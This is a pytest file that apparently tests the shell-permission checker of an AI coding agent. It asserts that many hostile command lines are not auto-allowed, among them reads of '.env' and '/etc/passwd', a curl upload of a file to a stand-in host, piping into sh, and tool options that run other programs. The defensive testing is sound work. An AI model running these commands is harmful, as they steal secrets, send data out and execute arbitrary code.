"""Attacks with commands, and everyday ones beside them, judged over a real folder."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from akmon_core.errors import SettingsError
from akmon_core.permissions import Grant, Policy, Rule, Sandboxing, Verdict, canonical, judge, parse_rule
from akmon_core.tools import Effect
from akmon_tools.workspace import Workspace
from tests.core.lines import located

CASES = [
    json.loads(line)
    for line in (Path(__file__).parents[1] / "cases/adversarial.jsonl").read_text("utf-8").splitlines()
]
ATTACKS = [
    case
    for case in CASES
    if case["id"][:2] in ("SP", "SD", "SE", "SF", "SR") and not case["required"].startswith("may run")
]
CONTROLS = [case for case in CASES if case["id"].startswith("BC")]


def named(cases: list[dict[str, object]]) -> list[object]:
    return [pytest.param(case, id=str(case["id"])) for case in cases]


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    base = tmp_path.resolve()
    for folder in ("ws/src", "out", "home/.ssh"):
        (base / folder).mkdir(parents=True)
    monkeypatch.setenv("HOME", str(base / "home"))
    return Workspace([base / "ws"])


def verdict_of(case: dict[str, dict[str, dict[str, str]]], workspace: Workspace) -> Verdict:
    base = workspace.cwd.parent
    command = str(case["input"]["args"]["command"])
    for name, path in {"WS": "ws", "OUT": "out", "HOME": "home", "MARK": "out/pwned"}.items():
        command = command.replace(f"{{{name}}}", str(base / path))
    given_policy = case["input"]["policy"]
    rules = [] if given_policy["mode"] == "default" else [parse_rule("shell")]
    for allowed in given_policy["allow"]:
        rules += _rule(allowed)
    rules += [parse_rule(f"shell({denied})", "deny") for denied in given_policy["deny"]]
    targets = workspace.locate((Effect("run", command),))
    return judge("shell", targets, "default", Policy(rules=tuple(rules), sandbox="bubblewrap"))


def _rule(pattern: str) -> list[Rule]:
    try:
        return [parse_rule(f"shell({pattern})")]
    except SettingsError:
        return []  # it names no plain command, and is refused when it is written


@pytest.mark.parametrize("case", named(ATTACKS))
def test_no_attack_with_a_command_runs_without_a_question(
    case: dict[str, dict[str, dict[str, str]]], workspace: Workspace
) -> None:
    assert verdict_of(case, workspace).decision != "allow"


@pytest.mark.parametrize("case", named(CONTROLS))
def test_no_everyday_command_that_a_rule_allows_is_asked_about(
    case: dict[str, dict[str, dict[str, str]]], workspace: Workspace
) -> None:
    assert verdict_of(case, workspace).decision == "allow"


def of_line(line: str, *rules: str, sandbox: Sandboxing = "bubblewrap") -> str:
    allowed = tuple(parse_rule(f"shell({rule})") for rule in rules)
    return judge("shell", (located(line),), "default", Policy(rules=allowed, sandbox=sandbox)).decision


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("sort *", "sort -uo/etc/x a"),
        ("sort *", "sort -uoout a"),
        ("sort *", "sort --out=x a"),
        ("sort *", "sort --compress-prog=./x a"),
        ("git *", "git -c core.fsmonitor=x status"),
        ("git *", "git -C sub status"),
        ("git *", "git --exec-path=. status"),
        ("git *", "git config x y"),
        ("git *", "git push"),
        ("git *", "git fetch"),
        ("git clone *", "git clone ext::sh"),
        ("git log *", "git log --outp=x"),
        ("git *", "git diff --ext-diff"),
        ("git grep *", "git grep -nOsh x"),
        ("git grep *", "git grep --open-files=sh x"),
        ("git rebase *", "git rebase -x id"),
        ("git rebase *", "git rebase --ex id"),
        ("git submodule *", "git submodule foreach id"),
        ("git difftool *", "git difftool -x id"),
        ("git filter-branch *", "git filter-branch --tree-filter id"),
        ("git *", "git myalias"),
        ("git fetch *", "git fetch --upload-p=id ."),
        ("git push *", "git push --receive-pack=id"),
        ("git push *", "git push --exec=id"),
        ("find *", "find . -name x -delete"),
        ("find *", "find . -execdir id +"),
        ("find *", "find . -fprint0 x"),
        ("rg *", "rg --hostname-bin=id x"),
        ("rg *", "rg -zn x"),
        ("rg *", "rg --search-z x"),
        ("sed *", "sed -i s/a/b/ src/x"),
        ("sed *", "sed -ne 'w out' x"),
        ("sed *", "sed s/a/id/e x"),
        ("sed *", "sed -n '1,2w out' x"),
        ("sed *", "sed -f script x"),
        ("sed *", "sed 's/a/b/w out' x"),
        ("sed *", "sed -n -e '1p' -e 'e id' x"),
        ("tar *", "tar xf a --to-comm=id"),
        ("tar *", "tar xf a --use-compress-prog=id"),
        ("tar *", "tar -xIid -f a"),
        ("tar *", "tar xf a -C /tmp"),
        ("xargs *", "xargs id"),
        ("env *", "env id"),
        ("nice *", "nice x"),
        ("timeout *", "timeout 5 x"),
        ("timeout 5 *", "timeout 5 rm x"),
        ("bash *", "bash -c id"),
        ("bash -c *", "bash -c id"),
        ("python3 *", "python3 -c x"),
        ("python3 -u *", "python3 -u -c x"),
        ("python3 -m *", "python3 -m pip install x"),
        ("perl *", "perl -e x"),
        ("node *", "node -e x"),
        ("awk *", "awk x y"),
        ("ssh *", "ssh h id"),
        ("ssh h *", "ssh h id"),
        ("vim x *", "vim x -c '!id'"),
        ("sudo *", "sudo id"),
        ("pytest *", "sudo pytest"),
        ("pytest *", "env A=1 pytest"),
        ("npm *", "npm exec x"),
        ("npx *", "npx x"),
        ("uv *", "uv run x"),
        ("uv run *", "uv run x"),
        ("docker *", "docker run x"),
        ("make *", "make SHELL=/x test"),
        ("make *", "make -f /x"),
        ("make test *", "make test SHELL=./x"),
        ("make test *", "make test --eval=x"),
        ("cp *", "cp x /etc/y"),
        ("cp *", "cp x .git/hooks/y"),
        ("cp *", "cp x .github/workflows/y.yml"),
        ("tee *", "tee .bashrc"),
        ("dd *", "dd of=/etc/x if=a"),
        ("tool *", "tool --out=/etc/x"),
        ("tool *", "tool -o/etc/x"),
        ("tool *", "tool -o../x"),
        ("tool *", "tool a:/etc/x"),
        ("tool *", "tool @/etc/x"),
        ("curl *", "curl file:///etc/passwd"),
        ("curl *", "curl -F a=@/etc/x http://h/"),
        ("uniq *", "uniq a b"),
        ("uniq *", "uniq -- -i b"),
        ("tar *", "tar cIf id out.tar src"),
        ("tar *", "tar xfI a.tar id"),
        ("less *", "less --lesskey-src=keys x"),
        ("less *", "less --lesskey-c=x x"),
        ("go test *", "go test --exec ./x"),
        ("go vet *", "go vet --vettool=./x"),
        ("go build *", "go build --toolexec ./x"),
        ("go build *", "go build -ldflags=-extld=./x"),
        ("go *", "go -C . run ."),
        ("npm test *", "npm test -script-shell=./x"),
        ("npm run build *", "npm run build -script-shell ./x"),
        ("npm *", "npm exe x"),
        ("npm *", "npm --loglevel silent exec x"),
        ("cargo *", "cargo r"),
        ("cargo *", "cargo +nightly run"),
        ("docker *", "docker -l debug run x"),
        ("docker *", "docker container run x"),
        ("docker *", "docker compose up"),
        ("kubectl *", "kubectl -n x exec y"),
        ("pip3 *", "pip3 config set x y"),
        ("pip *", "pip --python ./x list"),
        ("g++ *", "g++ -wrapper x a.c"),
        ("gcc-12 *", "gcc-12 -wrapper x a.c"),
        ("pylint *", "pylint --init-hook=x a.py"),
        ("mypy *", "mypy --python-exec ./x a.py"),
    ],
)
def test_a_rule_stands_for_nothing_that_makes_its_program_do_something_else(rule: str, line: str) -> None:
    assert of_line(line, rule) == "ask"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("timeout 60 pytest *", "timeout 60 pytest -q"),
        ("python3 -m pytest *", "python3 -m pytest -q x"),
        ("bash run.sh *", "bash run.sh a"),
        ("uv run pytest *", "uv run pytest -q"),
        ("git *", "git status -s"),
        ("git -C sub status *", "git -C sub status"),
        ("git commit *", "git commit -m 'a::b /x'"),
        ("find *", "find . -name '*.py' -type f"),
        ("sort *", "sort -k2,2 -n a"),
        ("sed *", "sed -n 5p x"),
        ("sed *", "sed s/a/b/g x"),
        ("sed -i *", "sed -i s/a/b/ x"),
        ("pytest *", "cd src && pytest -q"),
        ("pytest *", "pytest -q 2>&1 | tail -n 5"),
        ("make test V=1", "make test V=1"),
        ("npm run build", "npm run build"),
        ("bash -c 'a && b'", "bash -c 'a && b'"),
        ("tar *", "tar czf out.tgz src"),
        ("tar *", "tar tf out.tgz"),
        ("npm *", "npm install"),
        ("npm *", "npm --silent test"),
        ("npm test *", "npm test -- -q"),
        ("go test *", "go test -run X ./pkg"),
        ("go build *", "go build -ldflags '-s -w'"),
        ("cargo *", "cargo --locked test"),
        ("docker *", "docker ps -a"),
        ("kubectl *", "kubectl -n x get pods"),
    ],
)
def test_a_rule_stands_for_the_everyday_uses_of_its_command(rule: str, line: str) -> None:
    assert of_line(line, rule) == "allow"


@pytest.mark.parametrize(
    "line",
    [
        "cd .. && ls",
        "cd / && ls",
        "cd ..; ls",
        "cd && cat .bashrc",
        "cd - && ls",
        "cd src && cat ../../x",
        "cd a; cd b; cat ../../x",
        "cd src || cat ../x",
        "cd link && cd ../.. && cat x",
        "cat .env",
        "cat a/.env",
        "cat /etc/passwd",
        "head -c5 ../x",
        "ls /",
        "cat < .env",
        "cat x > y",
        "echo x > y",
        "find . -fls x",
        "find / -name x",
        "sort -o x y",
        "sort --files0-from=x",
        "wc --files0-from=x",
        "file -f x",
        "file -C -m x",
        "date -s x",
        "date 01010101",
        "diff -l a b",
        "rg -f /etc/x y",
        "rg --pre=id x",
        "rg -uu x",
        "grep -f x y",
        "grep -R x .",
        "uniq a b",
        "uniq -- -i b",
        "printf -v a x",
        "printf 'a%n' PATH && ls",
        "printf '%5n' PATH",
        "jobs -x id",
        "rg -L x",
        "rg -nL x src",
        "ls -LR .",
        "du -La",
        "tail -f x",
        "git branch x",
        "git branch -D x",
        "git stash",
        "git remote -v update",
        "git log --output=x",
        "git diff --no-index a b",
        "git show HEAD:.env",
        "git tag x",
        "git rev-parse --git-dir=x",
        "tee x",
        "timeout 5 rm x",
        "nice -n 5 tee x",
        "nohup ls",
        "time ls",
        "echo x | tee y",
        "echo x | sh",
        "ls | xargs rm",
        "./ls",
        "/bin/ls",
    ],
)
def test_what_does_more_than_read_in_the_project_is_asked_about(line: str) -> None:
    assert of_line(line) == "ask"


@pytest.mark.parametrize(
    "line",
    [
        "ls -la src | head -n 5",
        "grep -rn 'foo|bar' src",
        "cat src/a.py | wc -l",
        "cd src && cat ../README.md",
        "git status --short",
        "git diff HEAD~1 -- src",
        "git log --oneline -5",
        "git branch --list",
        "git branch -a",
        "git stash list",
        "find . -name '*.py' -not -path './x/*'",
        "echo hi && pwd",
        "timeout 5 ls",
        "cat AGENTS.md",
        "diff a b",
        "diff -u a b",
        "tail -n +5 x",
        "head -20 x",
        "ls 2>/dev/null",
        "date +%s",
        "cut -d: -f1 x",
        "cut -d , -f 1 x",
        "sort -t, -k2 x | uniq -c",
        "tr -d ' '",
        "which python3",
        "sed -n '1,20p' README.md",
        "stat x",
        "test -f x && echo yes",
        "printf '%-5s|%03d%%\\n' a 1",
        "sort -- a b",
    ],
)
def test_what_only_reads_in_the_project_runs_without_a_question(line: str) -> None:
    assert of_line(line) == "allow"
    assert of_line(line, sandbox="none") == "ask"
    assert of_line(line, sandbox="off") == ("ask" if line.startswith("git") else "allow")


def of_place(workspace: Workspace, line: str, folder: str = "") -> str:
    targets = workspace.locate((Effect("run", line),), folder)
    return judge("shell", targets, "default", Policy(sandbox="bubblewrap")).decision


def test_links_secrets_and_the_folder_that_a_command_runs_in_count(workspace: Workspace) -> None:
    root, out = workspace.cwd, workspace.cwd.parent / "out"
    (root / "link").symlink_to(out)
    (root / "src/a.py").write_text("a\n")
    assert of_place(workspace, "cat src/a.py") == "allow"
    assert of_place(workspace, "cat link/x") == "ask"
    assert of_place(workspace, "cd link && cat x") == "ask"
    assert of_place(workspace, "cat a.py", str(root / "src")) == "allow"
    assert of_place(workspace, "cat ../src/a.py", str(root / "src")) == "allow"
    assert of_place(workspace, "ls", str(out)) == "ask"
    assert of_place(workspace, "grep -rn key .") == "allow"
    (root / "src/.env").write_text("key\n")
    assert of_place(workspace, "grep -rn key .") == "ask"
    assert of_place(workspace, "grep -rn key src") == "ask"
    assert of_place(workspace, "rg key") == "ask"
    assert of_place(workspace, "cat " + "x" * 5_000) == "allow"


def test_a_comparison_of_folders_with_links_that_lead_elsewhere_is_asked_about(workspace: Workspace) -> None:
    root = workspace.cwd
    for name in "ab":
        (root / name).mkdir()
        (root / name / "x").write_text(name)
    assert of_place(workspace, "diff a b") == "allow"
    (root / "a/near").symlink_to(root / "b/x")
    assert of_place(workspace, "diff a b") == "allow"
    (root / "a/far").symlink_to(root.parent / "out")
    assert of_place(workspace, "diff -N a b") == "ask"


def test_a_command_allowed_for_the_session_is_allowed_in_its_folder_alone(workspace: Workspace) -> None:
    command = (Effect("run", "./build && rm -rf out"),)
    grant = Grant(tool="shell", targets=canonical(workspace.locate(command)))

    def again(folder: str) -> str:
        return judge("shell", workspace.locate(command, folder), "default", Policy(), (grant,)).decision

    assert [again(""), again(str(workspace.cwd)), again(f"{workspace.cwd}/src/..")] == ["allow"] * 3
    assert again(str(workspace.cwd / "src")) == "ask"
    assert again(str(workspace.cwd.parent)) == "ask"


@settings(max_examples=300)
@given(st.text(max_size=40))
def test_no_text_whatever_is_an_error_or_allowed_by_a_rule_for_another_command(line: str) -> None:
    policy = Policy(rules=(parse_rule("shell(frobnicate *)"),), sandbox="none")
    assert judge("shell", (located(line),), "full-auto", policy).decision == "ask"


@settings(max_examples=300)
@given(st.text(max_size=30), st.sampled_from(["allow", "ask", "deny"]))
def test_any_text_is_a_rule_that_reads_back_the_same_or_is_refused(text: str, decision: str) -> None:
    for written in (text, f"shell({text})", f"fetch({text})", f"write({text})"):
        try:
            rule = parse_rule(written, "deny" if decision == "deny" else "allow")
        except SettingsError:
            continue
        assert parse_rule(str(rule), rule.decision) == rule
